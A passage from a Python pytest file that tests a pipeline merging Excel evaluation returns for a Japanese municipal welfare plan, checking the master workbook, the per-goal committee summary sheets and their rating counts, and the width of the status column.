    for name in a.sheetnames:
        assert list(a[name].iter_rows(values_only=True)) == list(b[name].iter_rows(values_only=True)), name


def test_works_inside_write_atomically(tmp_path: Path, catalog: Catalog, published: dict) -> None:
    files = build_files(catalog, published)
    result = merge(catalog, files)
    target = tmp_path / master_name(catalog)
    written = write_atomically(
        target, lambda tmp: write_master(tmp, catalog, result, files, [], generated=GENERATED))
    assert written == target
    assert openpyxl.load_workbook(target).sheetnames == list(MASTER_SHEETS)
    assert [p.name for p in tmp_path.iterdir()] == [target.name]


# --- the committee summary ------------------------------------------------------------------


@pytest.fixture(scope="module")
def summary(tmp_path_factory: pytest.TempPathFactory, catalog: Catalog, published: dict):
    result = merge(catalog, build_files(catalog, published))
    path = tmp_path_factory.mktemp("summary") / summary_name(catalog)
    write_summary(path, catalog, result, generated=GENERATED)
    return path, openpyxl.load_workbook(path)


def test_summary_workbook_has_one_sheet_per_goal(summary) -> None:
    path, wb = summary
    assert wb.sheetnames == ["基本目標1", "基本目標2", "基本目標3"]
    for ws in wb.worksheets:
        assert ws.page_setup.paperSize == 9 and ws.page_setup.orientation == "landscape"
        assert ws.oddFooter.center.text == "&P / &N"
    for xml in sheet_xml(path).values():
        assert "<f>" not in xml and "<f " not in xml
    with zipfile.ZipFile(path) as z:
        charts = [n for n in z.namelist() if re.fullmatch(r"xl/charts/chart\d+\.xml", n)]
        assert len(charts) == 3
        for n in charts:
            assert '<c:grouping val="stacked"/>' in z.read(n).decode("utf-8")


@pytest.mark.parametrize("g", [1, 2, 3])
def test_summary_sheet_counts(catalog: Catalog, published: dict, summary, g: int) -> None:
    ws = summary[1][f"基本目標{g}"]
    assert ws["B2"].value is None and ws["A2"].value == f"基本目標 {g} {catalog.goals[g - 1].name}"
    assert ws["A4"].value == "A: ほぼ施策内容を達成した。"
    total = values(ws, find_row(ws, 2, f"基本目標{g}"), 8)
    assert total[0] == "合計" and tuple(total[2:6]) == PUBLISHED_COUNTS[g] and total[6] == 0
    for d in (x for x in catalog.directions if x.goal == g):
        counts = dict.fromkeys("ABCD", 0)
        for a in catalog.assignments:
            p = catalog.projects[a.project]
            if (p.goal, p.direction) == (g, d.number):
                counts[published[a.key]["rating"]] += 1
        row = values(ws, find_row(ws, 2, d.name), 13)
        assert row[0] == f"({d.number})" and row[2:6] == list(counts.values())
        assert sum(x for x in row[9:] if x is not None) == pytest.approx(1.0)
    measures = [m for m in catalog.measures if m.goal == g]
    first = find_row(ws, 1, "施策別") + 2
    assert [ws.cell(row=first + i, column=1).value for i in range(len(measures))] == [m.code for m in measures]


def test_summary_c_and_d_rows(published: dict, summary) -> None:
    wb = summary[1]
    ws = wb["基本目標1"]
    assert ws.cell(row=find_row(ws, 1, "C・D 評価の事業") + 2, column=1).value == "C・D 評価の事業はありません。"
    for g, expected in ((2, [(21, "地域福祉課(関係各課)"), (23, "地域福祉課"), (24, "地域福祉課(関係各課)")]),
                        (3, [(41, "地域福祉課")])):
        ws = wb[f"基本目標{g}"]
        head = find_row(ws, 1, "C・D 評価の事業") + 1
        got = [[ws.cell(row=r, column=c).value for c in (1, 3, 4, 7)]
               for r in range(head + 1, head + 1 + len(expected))]
        assert got == [[n, "D", dept, published[(str(n), dept)]["result"]] for n, dept in expected]
        assert ws.cell(row=head + 1 + len(expected), column=1).value is None


def test_the_file_lists_status_column_shows_the_whole_status(inbox: Path, outbox: Path) -> None:
    """提出状況's file list shares its columns with the office table above it: the 状態 column is
    sized for the longest status it holds (新しい提出で置換, 対象外(ignored-…)), not for 受理件数."""
    import os
    import shutil

    from pipeline.celltext import display_width
    from pipeline.runner import run_merge
    from pipeline.settings import Settings

    original = inbox / "R6_地域福祉計画評価_健康課.xlsx"
    again = inbox / "R6_地域福祉計画評価_健康課_再送.xlsx"
    shutil.copy(original, again)  # the same return sent twice: the older copy is superseded
    stat = original.stat()
    os.utime(again, (stat.st_atime, stat.st_mtime + 60))
    (inbox / "~$R6_地域福祉計画評価_健康課.xlsx").write_bytes(b"\x00" * 165)  # Excel's lock file: ignored
    run = run_merge(Settings(inbox=inbox, outbox=outbox))
    ws = openpyxl.load_workbook(run.master)["提出状況"]
    labels = {r[2] for r in ws.iter_rows(min_col=1, max_col=3, values_only=True) if r[0] in (
        original.name, again.name, "~$R6_地域福祉計画評価_健康課.xlsx")}
    assert {"新しい提出で置換", "対象外(ignored-lock-file)"} <= labels, labels
    width = ws.column_dimensions["C"].width
    assert all(display_width(label) <= width for label in labels), (width, labels)
